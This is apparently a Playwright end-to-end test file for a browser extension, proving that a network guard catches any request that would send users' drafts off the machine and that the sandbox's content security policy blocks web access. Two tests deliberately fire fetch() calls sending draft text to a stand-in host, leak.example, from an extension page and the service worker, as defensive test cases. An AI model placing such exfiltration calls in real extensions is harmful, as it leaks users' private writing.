"""Privacy: drafts never leave the machine. Every e2e test already fails if the browser
asked for anything but the extension's files and the routed practice pages (see the
`browser` fixture); these tests prove that guard sees every process, and drive every
surface once with the guard on."""

from __future__ import annotations

from pathlib import Path

from playwright.sync_api import BrowserContext

import harness
from harness import RequestLog, extension_id, open_compose, type_draft, wait_for_verdict

Browser = tuple[BrowserContext, RequestLog]


def test_the_guard_sees_a_request_from_an_extension_page(extension: Path, tmp_path: Path) -> None:
    with harness.browser(tmp_path / "profile") as (context, log):
        page = context.new_page()
        page.goto(f"chrome-extension://{extension_id(context)}/popup/popup.html")
        page.evaluate("fetch('https://leak.example/draft?text=secret').catch(() => null)")
        page.wait_for_timeout(300)
    assert "https://leak.example/draft?text=secret" in log.outside()


def test_the_guard_sees_a_request_from_the_service_worker(extension: Path, tmp_path: Path) -> None:
    with harness.browser(tmp_path / "profile") as (context, log):
        worker = context.service_workers[0]
        worker.evaluate("fetch('https://leak.example/from-worker').catch(() => null)")
        context.new_page().wait_for_timeout(300)
    assert any(url.startswith("https://leak.example/from-worker") for url in log.outside())


def test_the_sandboxed_engine_cannot_reach_the_web(extension: Path) -> None:
    """PyScript runs in the sandbox page; its CSP confines it to the extension's own files."""
    import json

    manifest = json.loads((extension / "manifest.json").read_text())
    policy = manifest["content_security_policy"]["sandbox"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if " " in part)
    assert directives["default-src"] == "'self'"
    assert directives["connect-src"].split() == ["'self'", "blob:", "data:"]
    assert "https:" not in policy and "*" not in policy


def test_a_whole_session_makes_no_request_of_its_own(browser: Browser) -> None:
    context, log = browser
    page = open_compose(context)
    type_draft(page, "I love this: buy now, 50% off with code SAVE50! What do you think?")
    wait_for_verdict(page)
    for path in ("popup/popup.html", "options/options.html"):
        other = context.new_page()
        other.goto(f"chrome-extension://{extension_id(context)}/{path}")
        other.fill("#draft", "Shop now at our store")
        other.wait_for_timeout(500)
    # The fixture's teardown checks log.outside() after the browser has closed (and the
    # NetLog is complete); here, the requests Playwright saw so far must already be clean.
    assert [url for url in log.urls if not harness.allowed_url(url)] == []
